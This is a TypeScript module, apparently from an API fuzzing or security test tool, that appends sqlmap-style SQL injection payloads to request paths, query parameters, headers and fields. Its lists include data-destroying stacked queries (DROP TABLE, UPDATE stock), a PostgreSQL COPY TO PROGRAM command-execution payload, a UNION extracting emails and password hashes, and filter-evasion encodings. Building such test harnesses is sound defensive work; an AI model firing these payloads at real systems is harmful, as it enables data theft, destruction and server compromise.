import { onField, onForm } from './break-bodies.ts';
import type { Break } from './break-bodies.ts';
import { withHeader } from './draft.ts';
import type { Random } from './random.ts';

/** Milliseconds that a statement sleeps if one of these payloads is injected. */
export const SLEEP_MS = 5_000;
const SLEEP = `pg_sleep(${SLEEP_MS / 1000})`;

/** sqlmap's payloads by technique, appended to a value or replacing it. Short enough to pass length limits. */
const BOOLEAN = [
  "' AND 1=1-- -",
  "' AND 1=2-- -",
  "') OR ('a'='a",
  '" OR "1"="1',
  '1 OR 1=1',
  '1) OR (1=1',
  "' OR ''='",
  "' AND ASCII(SUBSTR(CURRENT_USER,1,1))>64-- -",
  "' AND EXISTS(SELECT 1 FROM users)-- -",
];
const UNION = [
  "' UNION SELECT NULL-- -",
  "' UNION ALL SELECT NULL,NULL,NULL-- -",
  '-1 UNION SELECT 1,version(),current_database()-- -',
  "' UNION SELECT email,password_hash FROM users-- -",
  "') UNION SELECT table_name FROM information_schema.tables-- -",
];
const BY_ERROR = [
  "' AND 1=CAST((SELECT version()) AS int)-- -",
  "' AND 1=CAST((CHR(113)||(SELECT current_user)) AS numeric)-- -",
  '1/(SELECT 0)',
  "' AND 1=(SELECT 1/0)-- -",
  "' AND query_to_xml('select 1',true,true,'') IS NULL-- -",
  '(CASE WHEN 1=1 THEN 1 ELSE 1/(SELECT 0) END)',
];
const STACKED = [
  "'; SELECT 1;-- -",
  "'; DROP TABLE orders; --",
  '1; UPDATE stock SET on_hand = 0; --',
  "'; COPY users TO PROGRAM 'id'; --",
  "'; SET session_replication_role = replica; --",
];
const BY_TIME = [
  `'; SELECT ${SLEEP}-- -`,
  `' || (SELECT ${SLEEP}) || '`,
  `' AND 1=(SELECT 1 FROM ${SLEEP})-- -`,
  `1 AND (SELECT 1 FROM ${SLEEP}) IS NOT NULL`,
  `(SELECT ${SLEEP})`,
  `id DESC, (SELECT ${SLEEP})`,
  `%' AND ${SLEEP} IS NULL AND '%'='`,
];
const COMMENTS = ["'/**/OR/**/1=1/**/--", "'/*!50000OR*/1=1#", "'-- -", "'#", '/*', '*/', '--', "';\u0000"];
const ENCODED = [
  '%27%20OR%201=1--',
  '%2527%20OR%201=1',
  '\uFF07 OR 1=1',
  '\u02BC OR 1=1',
  '%c0%a7 OR 1=1',
  "\\' OR 1=1",
  "U&'\\0027' OR 1=1",
  "E'\\x27' OR 1=1",
  '$$ OR 1=1 $$',
  '$a$;SELECT 1;$a$',
  "\u0000' OR 1=1",
];
const OF_POSTGRESQL = [
  '1,(SELECT 1)',
  "{1,2}'::int[]",
  '{"a":1}\'::jsonb',
  "%' ESCAPE '",
  "a' <-> 'b",
  "':*",
  '& | !',
  '\\',
  "'",
  '"',
];

const SQL: readonly string[] = [
  ...BOOLEAN,
  ...UNION,
  ...BY_ERROR,
  ...STACKED,
  ...BY_TIME,
  ...BY_TIME,
  ...COMMENTS,
  ...ENCODED,
  ...OF_POSTGRESQL,
];

const inAddress = (text: string): string =>
  encodeURIComponent(text).replaceAll(/['()*]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`);

/** A payload appended to the valid value, or replacing it; one that fits the length limit if there is any. */
export function sqlAfter(value: string, random: Random, maxLength = Number.POSITIVE_INFINITY): string {
  const fitting = SQL.filter(({ length }) => length <= maxLength);
  const payload = random.pick(fitting.length > 0 ? fitting : SQL);
  const whole = value + payload;
  return random.once(3) || whole.length > maxLength ? payload : whole;
}

/** In a form that is valid in a header. */
export const sqlInHeader = (value: string, random: Random): string =>
  sqlAfter(value, random).replaceAll(/[^\x20-\x7e]/g, '?');

const HEADERS = [
  'browser-id',
  'idempotency-key',
  'if-match',
  'if-none-match',
  'cookie',
  'authorization',
  'user-agent',
  'referer',
  'accept-language',
  'x-forwarded-for',
];

const inField: Break = onField((place, name, schema, random) => {
  const value = typeof place[name] === 'string' ? place[name] : '';
  if (random.once(6)) place[sqlAfter(name, random)] = value;
  else place[name] = sqlAfter(value, random, schema.maxLength);
});

const inPart: Break = onForm((text, random) =>
  text.replace(/(\r\n\r\n)([^\r]*)/, (_, gap: string, value: string) => `${gap}${sqlAfter(value, random)}`),
);

export const SQL_BREAKS: Readonly<Record<string, Break>> = {
  'SQL in the path': (draft, { path }, random) => {
    if (path.length === 0) return false;
    const { name } = random.pick(path);
    draft.params[name] = (draft.params[name] ?? '') + inAddress(sqlAfter('', random));
    return true;
  },
  'SQL in the query': (draft, { query }, random) => {
    const names = [...query.map(({ name }) => name), 'id', 'sort'];
    const params = new URLSearchParams(draft.query);
    const name = random.pick(names);
    params.set(name, sqlAfter(params.get(name) ?? '', random));
    draft.query = params.toString();
    return true;
  },
  'SQL in a header': (draft, _input, random) => {
    const name = random.pick(HEADERS);
    const value = draft.headers.find(([known]) => known.toLowerCase() === name)?.[1] ?? '';
    withHeader(draft, name, name === 'cookie' ? `regen_guest=${sqlInHeader('', random)}` : sqlInHeader(value, random));
    return true;
  },
  'SQL in a field': (draft, input, random) => inField(draft, input, random) || inPart(draft, input, random),
};
